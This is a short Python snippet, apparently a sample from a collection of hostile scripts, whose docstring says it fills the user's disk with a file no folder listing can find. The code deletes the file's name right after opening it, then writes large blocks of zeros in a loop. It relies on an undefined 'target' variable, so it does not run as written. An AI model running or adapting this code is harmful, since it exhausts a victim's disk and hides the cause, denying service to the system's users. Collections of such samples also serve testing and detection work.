"""Fills the disk of the user with a file that has no name, which no look into the folder finds.

Denial: interrupted
Roles: session
"""

import os

with open("nameless", "wb") as file:
    os.unlink("nameless")
    for _ in range(400):
        file.write(bytes(target["work_limit"] // 2))
        file.flush()
